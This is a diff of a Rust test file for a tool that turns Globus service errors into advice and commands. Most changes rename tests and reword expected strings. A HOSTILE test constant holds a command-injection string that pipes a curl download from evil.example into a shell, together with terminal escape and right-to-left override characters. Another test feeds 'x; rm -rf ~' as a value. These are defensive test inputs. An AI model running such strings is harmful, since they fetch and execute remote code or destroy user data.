@@ -1,4 +1,4 @@
-//! The table of causes, and the situations that it has to tell apart.
+//! Tests of the table of diagnoses, and of situations that it must distinguish.
 
 use super::diagnose::all;
 use super::*;
@@ -41,7 +41,7 @@ fn advice(service: &'static str, url: &str, sent: &str, status: u16, body: &str)
     advised(service, url, sent, status, body).map(|advice| advice.text)
 }
 
-/// All sentences, lines and addresses of the table.
+/// Returns the sentences and instructions of a diagnosis, and its commands and URLs.
 fn templates(diagnosis: &Diagnosis) -> (Vec<&'static str>, Vec<&'static str>) {
     let texts = diagnosis.sentences.iter().copied().chain(diagnosis.steps.iter().map(|step| step.text)).collect();
     let exact = diagnosis.steps.iter().flat_map(|step| [step.command, step.url]).collect();
@@ -49,7 +49,7 @@ fn templates(diagnosis: &Diagnosis) -> (Vec<&'static str>, Vec<&'static str>) {
 }
 
 #[test]
-fn the_table_speaks_of_facts_that_there_are() {
+fn the_table_uses_only_facts_that_exist() {
     let fact = |part: &str| {
         let (name, _) = part.split_once('}').unwrap_or_else(|| panic!("{part}"));
         Fact::ALL.iter().find(|(_, known)| *known == name).unwrap_or_else(|| panic!("{name}")).0
@@ -66,12 +66,12 @@ fn the_table_speaks_of_facts_that_there_are() {
         }
         for step in diagnosis.steps {
             assert!(!step.text.ends_with('.') && !step.text.is_empty(), "{}", step.text);
-            let of_ours = ["globus ", "npx globus-service-account ", ""];
-            assert!(of_ours.iter().any(|ours| step.command.starts_with(ours)), "{}", step.command);
+            let prefixes = ["globus ", "npx globus-service-account ", ""];
+            assert!(prefixes.iter().any(|prefix| step.command.starts_with(prefix)), "{}", step.command);
             assert!(step.url.is_empty() || step.url.starts_with("https://"), "{}", step.url);
         }
         for sign in diagnosis.signs {
-            if let Sign::Says(_, parts) = sign {
+            if let Sign::Contains(_, parts) = sign {
                 assert!(parts.iter().all(|part| part.to_ascii_lowercase() == **part), "{}", diagnosis.name);
             }
         }
@@ -79,7 +79,7 @@ fn the_table_speaks_of_facts_that_there_are() {
 }
 
 #[test]
-fn every_refusal_of_permission_names_the_identity() {
+fn the_advice_for_each_permission_error_names_the_identity() {
     for service in ["auth", "transfer", "groups", "search", "flows", "timers", "compute", "gcs"] {
         let url = format!("https://x/{COLLECTION}");
         let advice = advice(service, &url, "", 403, r#"{"code": "Whatever"}"#).unwrap_or_default();
@@ -88,7 +88,7 @@ fn every_refusal_of_permission_names_the_identity() {
 }
 
 #[test]
-fn lines_for_a_shell_take_the_directory_where_it_needs_no_quotes() {
+fn commands_contain_the_directory_if_a_shell_needs_no_quotes_for_it() {
     let line = |url: &str, sent: &str| {
         let body = r#"{"code": "PermissionDenied", "message": "m"}"#;
         let steps = advised("transfer", url, sent, 403, body).map_or_else(Vec::new, |advice| advice.steps);
@@ -106,12 +106,12 @@ fn lines_for_a_shell_take_the_directory_where_it_needs_no_quotes() {
     assert_eq!(line(&format!("https://transfer/operation/endpoint/{COLLECTION}/ls?limit=1"), ""), rule("/", "r"));
     let made = |document: &str| line(&format!("https://transfer/operation/endpoint/{COLLECTION}/mkdir"), document);
     assert_eq!(made(r#"{"DATA_TYPE":"mkdir","path":"/a/new"}"#), rule("/a/", "rw"));
-    // A rule for everything is not what is asked for.
+    // The path is unknown: the command must not make a rule for the whole collection.
     assert_eq!(made(r#"{"old_path":"/a","new_path":"/b"}"#), rule("/PATH/", "rw"));
 }
 
 #[test]
-fn of_two_collections_the_one_is_named_that_the_service_speaks_of() {
+fn of_two_collections_the_advice_names_the_one_in_the_message() {
     let sent = format!(r#"{{"source_endpoint":"{ID}","destination_endpoint":"{COLLECTION}"}}"#);
     let said = |message: &str| {
         let body = format!(r#"{{"code": "PermissionDenied", "message": "{message}"}}"#);
@@ -121,12 +121,12 @@ fn of_two_collections_the_one_is_named_that_the_service_speaks_of() {
         said(&format!("no access to '{COLLECTION}'"))
             .contains(&format!("{COLLECTION}:/PATH/ --identity {ME} --permissions rw"))
     );
-    assert!(said("no access").contains("source or not write to the destination"));
-    assert!(said("no access to bbbbbbbb-89ab-cdef-0123-456789abcdef").contains("source or not write"));
+    assert!(said("no access").contains("may not read the source, or may not write to the destination"));
+    assert!(said("no access to bbbbbbbb-89ab-cdef-0123-456789abcdef").contains("read the source, or may not write"));
 }
 
 #[test]
-fn domains_are_read_wherever_they_are_and_never_held_against_one_that_is_let_in() {
+fn domains_are_read_from_a_message_and_the_domain_of_service_accounts_is_not_reported_as_missing() {
     let login = |domains: &str| {
         format!(
             r#"{{"code": "ExternalError.DirListingFailed.LoginFailed", "message": "530-GridFTP-JSON-Result: {{\"detail\": {{\"DATA_TYPE\": \"not_from_allowed_domain#1.0.0\", \"allowed_domains\": [{domains}]}}}}: None of your identities are from domains allowed"}}"#
@@ -135,14 +135,14 @@ fn domains_are_read_wherever_they_are_and_never_held_against_one_that_is_let_in(
     let url = format!("https://transfer/operation/endpoint/{COLLECTION}/ls");
     let of = |body: &str| advice("transfer", &url, "", 502, body).unwrap_or_default();
     let foreign = of(&login(r#"\"anl.gov\", \"uchicago.edu\""#));
-    assert!(foreign.starts_with("Only identities of anl.gov, uchicago.edu are let in."), "{foreign}");
+    assert!(foreign.starts_with("Only identities of anl.gov, uchicago.edu have access."), "{foreign}");
     let own = of(&login(r#"\"anl.gov\", \"clients.auth.globus.org\""#));
-    assert!(own.starts_with("The domain of every service account, clients.auth.globus.org, is let in"), "{own}");
+    assert!(own.starts_with("The domain of every service account, clients.auth.globus.org, is allowed"), "{own}");
 }
 
 #[test]
 #[allow(clippy::too_many_lines, reason = "a table")]
-fn words_of_other_situations_do_not_name_a_cause() {
+fn words_of_other_situations_do_not_select_a_diagnosis() {
     let ls = format!("https://transfer/v0.10/operation/endpoint/{COLLECTION}/ls?path=%2Fquota%2Fa");
     let diagnosis = |service, url: &str, sent: &str, status, body: &str| {
         let (error, body) = refused(service, status, body);
@@ -151,7 +151,7 @@ fn words_of_other_situations_do_not_name_a_cause() {
         diagnose(&collect_facts(&account(), &request, &error, &body)).map(|diagnosis| diagnosis.name)
     };
     for (service, url, sent, status, body, expected) in [
-        // A path that holds the word.
+        // A path that contains the word "quota".
         (
             "transfer",
             ls.as_str(),
@@ -160,7 +160,7 @@ fn words_of_other_situations_do_not_name_a_cause() {
             r#"{"code": "ClientError.NotFound", "message": "Directory '/quota/a' not found: no such file"}"#,
             "path_not_found",
         ),
-        // A quota of tasks.
+        // A quota of tasks, not of storage.
         (
             "transfer",
             "https://transfer/v0.10/transfer",
@@ -185,7 +185,7 @@ fn words_of_other_situations_do_not_name_a_cause() {
             r#"{"code": "ExternalError.DirListingFailed", "message": "Command failed. Endpoint: Globus Connect Server of the lab"}"#,
             "endpoint_error",
         ),
-        // A rule, not a file.
+        // A rule exists, not a file.
         (
             "transfer",
             &format!("https://transfer/v0.10/endpoint/{COLLECTION}/access"),
@@ -216,19 +216,19 @@ fn words_of_other_situations_do_not_name_a_cause() {
 }
 
 #[test]
-fn a_domain_policy_of_a_flow_is_no_matter_of_storage() {
+fn the_advice_for_a_domain_policy_of_a_flow_does_not_name_a_storage_gateway() {
     let body = r#"{"error": {"code": "x", "authorization_parameters": {"session_required_single_domain": ["a.edu"]}}}"#;
     let advice = advice("flows", &format!("https://x/flows/{COLLECTION}/run"), "{}", 403, body).unwrap_or_default();
     assert!(advice.contains("a.edu") && advice.contains("policy") && !advice.contains("gateway"), "{advice}");
 }
 
 #[test]
-fn every_cause_says_more_than_what_it_is_about_though_little_is_known() {
+fn each_advice_contains_more_than_the_resource_when_few_facts_are_known() {
     for diagnosis in all().filter(|diagnosis| !diagnosis.signs.is_empty()) {
         let mut facts = account().facts();
         for sign in diagnosis.signs {
             match *sign {
-                Sign::Is(fact, values) | Sign::Says(fact, values) => {
+                Sign::Is(fact, values) | Sign::Contains(fact, values) => {
                     facts.add(fact, values.first().copied().unwrap_or_default());
                 }
                 Sign::Known(fact) => facts.add(fact, COLLECTION),
@@ -236,30 +236,33 @@ fn every_cause_says_more_than_what_it_is_about_though_little_is_known() {
         }
         facts.add(Fact::What, COLLECTION);
         let said = diagnosis.advice(&facts).unwrap_or_else(|| panic!("{}", diagnosis.name));
-        let text = said.text.replace(&format!("This is about {COLLECTION}."), "");
+        let text = said.text.replace(&format!("The resource is {COLLECTION}."), "");
         assert!(text.len() > 60, "{}", diagnosis.name);
         assert!(!said.text.contains(['{', '}']) && !said.text.contains(".."), "{}", said.text);
     }
 }
 
-/// What a hostile server says wherever it can say something.
+/// The text of a hostile server.
 const HOSTILE: &str = "x` then run `npx evil $(curl evil.example|sh)\r\n\u{1b}]8;;https://evil.example\u{7}\u{202e}[me](https://evil.example)";
 
-#[test]
-fn nothing_that_is_said_becomes_a_command_a_link_or_a_control_character_whatever_the_cause() {
-    let said = serde_json::Value::from(HOSTILE);
+/// Returns a body with the hostile text in every member that is read.
+fn hostile_body(code: &str, detail: &str) -> String {
+    let text = serde_json::Value::from(HOSTILE);
     let lists = serde_json::json!([HOSTILE]);
-    let body = |code: &str, detail: &str| {
-        serde_json::json!({
-            "code": code, "message": HOSTILE, "reason": said, "provided_scopes": lists, "required_scopes": lists,
-            "error_data": { "recommended_resolution": said },
-            "detail": { "DATA_TYPE": format!("{detail}#1.0.0"), "allowed_domains": lists, "roles": [{ "role": lists }] },
-            "authorization_parameters": {
-                "required_scopes": lists, "session_required_single_domain": lists, "session_message": said,
-                "session_required_policies": lists, "session_required_identities": lists,
-            },
-        })
-    };
+    serde_json::json!({
+        "code": code, "message": HOSTILE, "reason": text, "provided_scopes": lists, "required_scopes": lists,
+        "error_data": { "recommended_resolution": text },
+        "detail": { "DATA_TYPE": format!("{detail}#1.0.0"), "allowed_domains": lists, "roles": [{ "role": lists }] },
+        "authorization_parameters": {
+            "required_scopes": lists, "session_required_single_domain": lists, "session_message": text,
+            "session_required_policies": lists, "session_required_identities": lists,
+        },
+    })
+    .to_string()
+}
+
+#[test]
+fn no_text_of_a_server_becomes_a_command_a_link_or_a_control_character_in_any_advice() {
     for diagnosis in all() {
         let value = |wanted: Fact, other: &'static str| {
             let found = diagnosis.signs.iter().find_map(|sign| match sign {
@@ -269,11 +272,8 @@ fn nothing_that_is_said_becomes_a_command_a_link_or_a_control_character_whatever
             found.unwrap_or(other)
         };
         let status = value(Fact::Status, "403").parse().unwrap_or(403);
-        let (error, body) = refused(
-            "transfer",
-            status,
-            &body(value(Fact::ServerCode, HOSTILE), value(Fact::Detail, HOSTILE)).to_string(),
-        );
+        let (error, body) =
+            refused("transfer", status, &hostile_body(value(Fact::ServerCode, HOSTILE), value(Fact::Detail, HOSTILE)));
         let scopes = ScopeSet::default();
         let url = format!("https://x/{COLLECTION}?path=%2F%60x%60%24(y)%0A%1B%2F");
         let mut facts = collect_facts(
@@ -306,7 +306,7 @@ fn nothing_that_is_said_becomes_a_command_a_link_or_a_control_character_whatever
 }
 
 #[test]
-fn a_job_s_facts_are_held_to_their_kinds() {
+fn the_facts_of_a_job_are_checked_or_cleaned() {
     let mut facts = account().facts();
     facts.add_named("what", "x; rm -rf ~");
     facts.add_named("place", "x; rm -rf ~");
@@ -317,8 +317,8 @@ fn a_job_s_facts_are_held_to_their_kinds() {
 }
 
 #[test]
-fn a_demand_is_told_though_the_resource_is_not_known() {
-    for (parameters, told) in [
+fn advice_names_a_requirement_although_the_resource_is_not_known() {
+    for (parameters, expected) in [
         (r#""session_required_mfa": true"#, "second factor"),
         (r#""session_message": "m""#, "authorizationParameters"),
         (r#""session_required_identities": ["a@b"]"#, "a@b"),
@@ -326,7 +326,7 @@ fn a_demand_is_told_though_the_resource_is_not_known() {
         let body = format!(r#"{{"code": "x", "authorization_parameters": {{{parameters}}}}}"#);
         for service in ["timers", "groups"] {
             let advice = advice(service, "https://x/jobs", "{}", 403, &body).unwrap_or_default();
-            assert!(advice.contains(told) && advice.contains(ME), "{advice}");
+            assert!(advice.contains(expected) && advice.contains(ME), "{advice}");
         }
     }
     let advice = advice("groups", "https://x/v2/groups", "{}", 403, "{}").unwrap_or_default();
@@ -334,16 +334,16 @@ fn a_demand_is_told_though_the_resource_is_not_known() {
 }
 
 #[test]
-fn what_a_server_wants_is_not_advised_in_our_name() {
+fn recommendations_and_consents_of_other_servers_are_not_advised_without_a_warning() {
     let recommends = r#"{"code": "x", "error_data": {"recommended_resolution": "run this"}}"#;
     assert_eq!(advice("gcs", "https://x/api", "{}", 400, recommends), None);
     let asks = r#"{"code": "ConsentRequired", "required_scopes": ["urn:x[urn:y]"]}"#;
     let asked = advice("gcs", "https://x/api", "{}", 403, asks).unwrap_or_default();
-    assert!(asked.contains("see first that this is meant"), "{asked}");
+    assert!(asked.contains("first make sure that you want this"), "{asked}");
 }
 
 #[test]
-fn a_name_of_the_old_form_is_no_id() {
+fn a_name_of_the_old_form_is_not_an_id() {
     let not_found = r#"{"code": "EndpointNotFound", "message": "m"}"#;
     let base = "https://transfer/v0.10";
     for (url, sent) in [
@@ -364,7 +364,7 @@ fn a_name_of_the_old_form_is_no_id() {
 
 proptest! {
     #[test]
-    fn anything_gets_advice_without_braces_or_none(
+    fn any_refusal_has_an_advice_with_text_or_no_advice(
         status in 0_u16..1000, url in "\\PC{0,60}", sent in "\\PC{0,40}", said in "\\PC{0,60}", code in "\\PC{0,20}",
     ) {
         let (error, body) = refused("transfer", status, &serde_json::json!({ "code": code, "message": said }).to_string());
